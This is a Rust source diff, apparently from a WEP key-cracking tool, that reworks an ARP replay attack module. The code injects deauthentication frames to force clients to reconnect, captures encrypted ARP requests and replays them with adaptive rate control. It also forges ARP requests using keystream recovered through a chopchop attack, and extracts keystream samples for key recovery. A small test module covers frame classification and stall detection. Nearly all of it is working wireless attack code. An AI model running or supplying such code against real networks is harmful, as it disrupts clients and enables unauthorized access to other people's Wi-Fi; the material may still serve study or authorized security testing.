@@ -11,19 +11,26 @@ use std::{
 
 use anyhow::Context;
 use ieee80211::{
-    DSStatus, DataFrame, DataFrameTrait, DataSubtype, DeauthenticationFixedParametersBuilderTrait,
-    DeauthenticationFrameBuilder, FragmentSequenceTrait, Frame, FrameBuilderTrait, FrameLayer,
-    FrameSubtype, FrameTrait, FrameType, FrameVersion, MacAddress, ManagementFrameBuilderTrait,
-    ManagementSubtype,
+    DSStatus, DataFrame, DataFrameTrait, DataSubtype, FragmentSequenceTrait, Frame, FrameLayer,
+    FrameSubtype, FrameTrait, MacAddress,
 };
 
 use crate::{
+    chopchop::ChopChopAttack,
+    deauth::DeauthAttack,
     ieee80211::{IEEE80211Monitor, IEEE80211PacketSniffer},
     keycracker::KeystreamSample,
-    wep::WepIV,
+    plaintext::{
+        self, KnownPlaintextClassifier, PlaintextClass, ARP_PACKET_SIZE, LLC_SNAP_HEADER_SIZE,
+    },
+    replay_rate::ReplayRateController,
+    wep::{WepFrame, WepKeystream},
 };
 
 pub struct ARPSampleSupplier {
+    arp_request: Vec<u8>,
+    replay_rate: Arc<Mutex<ReplayRateController>>,
+
     replay_thread: Option<JoinHandle<()>>,
     acceptor_thread: Option<JoinHandle<()>>,
 
@@ -32,33 +39,18 @@ pub struct ARPSampleSupplier {
 }
 
 impl ARPSampleSupplier {
-    const ARP_PACKET_SIZE: usize = 28;
-
     pub fn try_capture_arp_request(
         ap_mac: &MacAddress,
         dev_mac: &MacAddress,
+        deauth: &mut DeauthAttack,
         sniffer: &mut IEEE80211PacketSniffer,
     ) -> anyhow::Result<Option<Frame<'static>>> {
         sniffer
             .set_timeout(Some(Duration::from_secs(5)))
             .context("failed to set sniffer timeout")?;
 
-        //Send a deauth request
-        let mut deauth = DeauthenticationFrameBuilder::new();
-        deauth.version(FrameVersion::Standard);
-        deauth.type_(FrameType::Management);
-        deauth.subtype(FrameSubtype::Management(
-            ManagementSubtype::Deauthentication,
-        ));
-        deauth.ds_status(DSStatus::NotLeavingDSOrADHOC);
-        deauth.source_address(*ap_mac);
-        deauth.bssid_address(*ap_mac);
-        deauth.destination_address(*dev_mac);
-        deauth.reason_code(ieee80211::ReasonCode::Inactivity);
-
-        sniffer
-            .inject_frame(&deauth.build())
-            .context("failed to inject deauth packet")?;
+        //Make the target device reconnect, after which it usually sends an ARP request
+        deauth.send_burst(sniffer)?;
 
         //Sniff packets for an ARP-Request for a bit
         const TIMEOUT: Duration = Duration::from_secs(1);
@@ -79,29 +71,11 @@ impl ARPSampleSupplier {
             };
             let frame = packet.ieee80211_frame();
 
-            //Check if this is an encrypted broadcast packet from our target device
             let Some(FrameLayer::Data(data)) = frame.next_layer() else {
                 continue;
             };
 
-            if !data.protected()
-                || data.source_address() != Some(*dev_mac)
-                || !data
-                    .destination_address()
-                    .map_or(false, |dst| dst.is_broadcast())
-            {
-                continue;
-            }
-
-            //Check if this most likely is an ARP request
-            let mut index = DataFrame::FRAGMENT_SEQUENCE_START + 2;
-            if matches!(data.subtype(), FrameSubtype::Data(DataSubtype::QoSData)) {
-                index += 2;
-            }
-
-            let data_len = data.bytes().len() - 8 - (index + 4); //Last 8 bytes are garbage (ICV + FCS)
-
-            if data_len == 8 + Self::ARP_PACKET_SIZE {
+            if Self::is_arp_request(&data, dev_mac) {
                 return Ok(Some(Frame::new(Vec::from(
                     &frame.bytes()[..frame.bytes().len() - 4],
                 ))));
@@ -111,14 +85,107 @@ impl ARPSampleSupplier {
         Ok(None)
     }
 
+    fn is_arp_request(data: &DataFrame, dev_mac: &MacAddress) -> bool {
+        //Check if this is an encrypted broadcast packet sent by our target device
+        //The AP relays it with the same addresses, but that relay can't be replayed to the AP
+        if !data.protected()
+            || !matches!(data.ds_status(), DSStatus::FromSTAToDS)
+            || data.source_address() != Some(*dev_mac)
+            || !data
+                .destination_address()
+                .map_or(false, |dst| dst.is_broadcast())
+        {
+            return false;
+        }
+
+        //Check if this most likely is an ARP request
+        let mut index = DataFrame::FRAGMENT_SEQUENCE_START + 2;
+        if matches!(data.subtype(), FrameSubtype::Data(DataSubtype::QoSData)) {
+            index += 2;
+        }
+
+        //Last 8 bytes are garbage (ICV + FCS)
+        data.bytes().len().checked_sub(8 + index + 4)
+            == Some(LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE)
+    }
+
+    fn is_ap_response(data: &DataFrame, ap_mac: &MacAddress) -> bool {
+        //The monitor also sees our own injected replays, so only frames relayed by the AP count as responses
+        matches!(data.ds_status(), DSStatus::FromDSToSTA)
+            && data.transmitter_address() == Some(*ap_mac)
+    }
+
+    pub fn forge_arp_request(
+        keystream: &WepKeystream,
+        key_idx: u8,
+        ap_mac: &MacAddress,
+        dev_mac: &MacAddress,
+        sender_ip: [u8; 4],
+        target_ip: [u8; 4],
+    ) -> Option<Frame<'static>> {
+        //The AP relays the forged request as a broadcast, which is all the replay attack needs
+        let wep_frame = WepFrame::encrypt_with_keystream(
+            keystream,
+            key_idx,
+            &plaintext::arp_request_plaintext(dev_mac, sender_ip, target_ip),
+        )?;
+
+        Some(Frame::new(wep_frame.build_data_frame(
+            DSStatus::FromSTAToDS,
+            ap_mac,
+            dev_mac,
+            &MacAddress::new([0xff; 6]),
+        )?))
+    }
+
+    pub fn forge_chopchop_arp_request(
+        ap_mac: &MacAddress,
+        dev_mac: &MacAddress,
+        sniffer: &mut IEEE80211PacketSniffer,
+        progress_cb: impl FnMut(usize, usize),
+        should_exit: &AtomicBool,
+    ) -> anyhow::Result<Option<Frame<'static>>> {
+        //The recovered keystream has to be long enough to encrypt an ARP request
+        //Any protected frame of the network will do, as we only reuse its encrypted body
+        let Some(frame) = sniffer.sniff_wep_frame(
+            ap_mac,
+            LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE,
+            Duration::from_secs(5),
+        )?
+        else {
+            return Ok(None);
+        };
+
+        let mut chopchop = ChopChopAttack::new(sniffer, *ap_mac, *dev_mac);
+        let Some(result) = chopchop.run(&frame, progress_cb, should_exit)? else {
+            return Ok(None);
+        };
+
+        //Use the addresses of the decrypted packet if possible, as the AP relays broadcasts either way
+        let (sender_ip, target_ip) =
+            plaintext::ipv4_addresses(&result.plaintext).unwrap_or(([0xff; 4], [0xff; 4]));
+        Ok(Self::forge_arp_request(
+            &result.keystream,
+            frame.key_idx,
+            ap_mac,
+            dev_mac,
+            sender_ip,
+            target_ip,
+        ))
+    }
+
     pub fn new(
         monitor: Rc<IEEE80211Monitor>,
         dev_mac: MacAddress,
         ap_mac: MacAddress,
         arp_request: Frame<'static>,
+        recapture: Option<DeauthAttack>,
     ) -> Self {
         let (sample_tx, sample_rx) = mpsc::channel();
         let should_exit = Arc::new(AtomicBool::new(false));
+        let replay_rate = Arc::new(Mutex::new(ReplayRateController::new(Instant::now())));
+
+        let arp_request_bytes = arp_request.bytes().to_vec();
 
         //Launch the threads
         let replay_thread = {
@@ -126,12 +193,19 @@ impl ARPSampleSupplier {
                 .create_sniffer()
                 .expect("failed to create sniffer for replay thread");
 
+            let replay_rate = replay_rate.clone();
             let should_exit = should_exit.clone();
             Some(
                 std::thread::Builder::new()
                     .name("ARP replayer thread".into())
                     .spawn(move || {
-                        Self::replay_thread_fnc(sniffer, arp_request, should_exit.as_ref())
+                        Self::replay_thread_fnc(
+                            sniffer,
+                            arp_request,
+                            recapture,
+                            replay_rate.as_ref(),
+                            should_exit.as_ref(),
+                        )
                     })
                     .expect("failed to spawn replayer thread"),
             )
@@ -142,6 +216,7 @@ impl ARPSampleSupplier {
                 .create_sniffer()
                 .expect("failed to create sniffer for acceptor thread");
 
+            let replay_rate = replay_rate.clone();
             let should_exit = should_exit.clone();
             Some(
                 std::thread::Builder::new()
@@ -152,6 +227,7 @@ impl ARPSampleSupplier {
                             sample_tx,
                             ap_mac,
                             dev_mac,
+                            replay_rate.as_ref(),
                             should_exit.as_ref(),
                         )
                     })
@@ -160,6 +236,9 @@ impl ARPSampleSupplier {
         };
 
         ARPSampleSupplier {
+            arp_request: arp_request_bytes,
+            replay_rate,
+
             replay_thread,
             acceptor_thread,
 
@@ -168,17 +247,84 @@ impl ARPSampleSupplier {
         }
     }
 
+    pub fn arp_request(&self) -> &[u8] {
+        &self.arp_request
+    }
+
+    pub fn replay_rate(&self) -> Arc<Mutex<ReplayRateController>> {
+        self.replay_rate.clone()
+    }
+
     fn replay_thread_fnc(
         mut sniffer: IEEE80211PacketSniffer,
-        arp_request: Frame<'static>,
+        mut arp_request: Frame<'static>,
+        mut recapture: Option<DeauthAttack>,
+        replay_rate: &Mutex<ReplayRateController>,
         should_exit: &AtomicBool,
     ) {
+        //Sending blocks while the device's transmit queue is full, so time out to be able to back off
+        const SEND_TIMEOUT: Duration = Duration::from_millis(10);
+        const MIN_RECAPTURE_BACKOFF: Duration = Duration::from_secs(5);
+        const MAX_RECAPTURE_BACKOFF: Duration = Duration::from_secs(60);
+
+        sniffer
+            .set_timeout(Some(SEND_TIMEOUT))
+            .expect("failed to set replay sniffer timeout");
+
+        let mut recapture_backoff = MIN_RECAPTURE_BACKOFF;
+        let mut next_recapture = Instant::now();
         while !should_exit.load(Ordering::SeqCst) {
-            sniffer
-                .inject_frame(&arp_request)
+            let injected = sniffer
+                .try_inject_frame(&arp_request)
                 .expect("failed to inject replayed ARP request");
 
-            std::thread::sleep(Duration::from_micros(3000));
+            let (interval, stalled) = {
+                let mut rate = replay_rate
+                    .lock()
+                    .expect("failed to lock replay rate controller");
+                if injected {
+                    rate.record_injection();
+                } else {
+                    rate.record_backoff();
+                }
+                let stalled = rate.update(Instant::now());
+                (rate.interval(), stalled)
+            };
+
+            //Capture a new ARP request if the AP stopped responding to ours (e.g. because the client disassociated)
+            if let (true, Some(deauth)) = (stalled, &mut recapture) {
+                if Instant::now() >= next_recapture {
+                    //This socket is never read otherwise, so skip the stale frames which piled up in it
+                    sniffer.drain().expect("failed to drain replay sniffer");
+
+                    let new_request = Self::try_capture_arp_request(
+                        &deauth.ap_mac(),
+                        &deauth.client_mac(),
+                        deauth,
+                        &mut sniffer,
+                    )
+                    .expect("error while trying to re-capture ARP request");
+                    sniffer
+                        .set_timeout(Some(SEND_TIMEOUT))
+                        .expect("failed to set replay sniffer timeout");
+
+                    //Don't keep deauthenticating the client if it doesn't send a new request
+                    if let Some(new_request) = new_request {
+                        arp_request = new_request;
+                        recapture_backoff = MIN_RECAPTURE_BACKOFF;
+                        replay_rate
+                            .lock()
+                            .expect("failed to lock replay rate controller")
+                            .record_recapture(Instant::now());
+                    } else {
+                        next_recapture = Instant::now() + recapture_backoff;
+                        recapture_backoff = (recapture_backoff * 2).min(MAX_RECAPTURE_BACKOFF);
+                    }
+                    continue;
+                }
+            }
+
+            std::thread::sleep(interval);
         }
     }
 
@@ -187,6 +333,7 @@ impl ARPSampleSupplier {
         sample_sender: Sender<KeystreamSample>,
         ap_mac: MacAddress,
         dev_mac: MacAddress,
+        replay_rate: &Mutex<ReplayRateController>,
         should_exit: &AtomicBool,
     ) {
         while !should_exit.load(Ordering::SeqCst) {
@@ -213,47 +360,32 @@ impl ARPSampleSupplier {
                 continue;
             }
 
-            //Get the IV from the packet
-            let mut index = DataFrame::FRAGMENT_SEQUENCE_START + 2;
-            if matches!(data.subtype(), FrameSubtype::Data(DataSubtype::QoSData)) {
-                index += 2;
-            }
-            let mut iv = WepIV::default();
-            iv.copy_from_slice(&data.bytes()[index..index + 3]);
-
-            let payload = &data.bytes()[index + 4..data.bytes().len() - 8]; //Last 8 bytes are garbage (ICV + FCS)
-
-            //Check if this most likely is an ARP response
-            if payload.len() == 8 + Self::ARP_PACKET_SIZE {
-                const ARP_REQ_PLAINTEXT: [u8; 16] = [
-                    0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x06, 0x00, 0x01, 0x08, 0x00, 0x06,
-                    0x04, 0x00, 0x02,
-                ];
-                const ARP_RESP_PLAINTEXT: [u8; 16] = [
-                    0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x06, 0x00, 0x01, 0x08, 0x00, 0x06,
-                    0x04, 0x00, 0x02,
-                ];
-
-                //Recover the keystream
-                let plaintext = if data.destination_address().unwrap().is_broadcast() {
-                    &ARP_REQ_PLAINTEXT
-                } else {
-                    &ARP_RESP_PLAINTEXT
-                };
-
-                let mut keystream = [0u8; KeystreamSample::KEYSTREAM_LEN];
-                for i in 0..16 {
-                    keystream[i] = payload[i] ^ plaintext[i];
+            //Recover the keystream and put it into the queue
+            if let Some(sample) = Self::recover_sample(&data, true) {
+                if Self::is_ap_response(&data, &ap_mac) {
+                    replay_rate
+                        .lock()
+                        .expect("failed to lock replay rate controller")
+                        .record_response(&sample.iv, Instant::now());
                 }
 
-                //Put it into the queue
                 sample_sender
-                    .send(KeystreamSample { keystream, iv })
+                    .send(sample)
                     .expect("failed to push sample to queue");
             }
         }
     }
 
+    pub fn recover_sample(data: &DataFrame, has_fcs: bool) -> Option<KeystreamSample> {
+        //Only accept ARP packets, as we know their plaintext with (near) certainty
+        let (prediction, sample) =
+            plaintext::recover_sample(data, has_fcs, &KnownPlaintextClassifier)?;
+        match prediction.class {
+            PlaintextClass::ARPRequest | PlaintextClass::ARPReply => Some(sample),
+            _ => None,
+        }
+    }
+
     pub fn provide_sample(&mut self, _should_exit: &AtomicBool) -> Option<KeystreamSample> {
         const TIMEOUT: Duration = Duration::from_millis(10);
 
@@ -305,3 +437,70 @@ impl Drop for ARPSampleSupplier {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wep::WepKey;
+
+    #[test]
+    fn test_replay_responses() {
+        let key: WepKey = "0102030405".parse().unwrap();
+        let ap = MacAddress::new([0x02, 0, 0, 0, 0, 1]);
+        let dev = MacAddress::new([0x02, 0, 0, 0, 0, 2]);
+
+        //Build our replayed request and the AP's relay of it, as received with an FCS
+        let keystream = WepKeystream::from_key(
+            &key,
+            &[1, 2, 3],
+            LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE + WepFrame::ICV_SIZE,
+        );
+        let request = ARPSampleSupplier::forge_arp_request(
+            &keystream,
+            0,
+            &ap,
+            &dev,
+            [10, 0, 0, 2],
+            [10, 0, 0, 1],
+        )
+        .unwrap();
+        let mut injected = request.bytes().to_vec();
+        injected.extend_from_slice(&[0; 4]);
+
+        let mut relayed = WepFrame::from_data_frame(&DataFrame::new(request.bytes()), false)
+            .unwrap()
+            .build_data_frame(
+                DSStatus::FromDSToSTA,
+                &ap,
+                &dev,
+                &MacAddress::new([0xff; 6]),
+            )
+            .unwrap();
+        relayed.extend_from_slice(&[0; 4]);
+
+        let injected = DataFrame::new(&injected[..]);
+        let relayed = DataFrame::new(&relayed[..]);
+
+        //Only the client's own request can be captured, not the AP's relay of it
+        assert!(ARPSampleSupplier::is_arp_request(&injected, &dev));
+        assert!(!ARPSampleSupplier::is_arp_request(&relayed, &dev));
+
+        //Only the AP's relays count as responses
+        assert!(ARPSampleSupplier::is_ap_response(&relayed, &ap));
+        assert!(!ARPSampleSupplier::is_ap_response(&injected, &ap));
+
+        //If only our own injections arrive, the AP is still detected to have stopped responding
+        let mut now = Instant::now();
+        let mut controller = ReplayRateController::new(now);
+        for _ in 0..10 {
+            controller.record_injection();
+            if ARPSampleSupplier::is_ap_response(&injected, &ap) {
+                controller.record_response(&[1, 2, 3], now);
+            }
+
+            now += Duration::from_secs(1);
+            controller.update(now);
+        }
+        assert!(controller.stats().stalled);
+    }
+}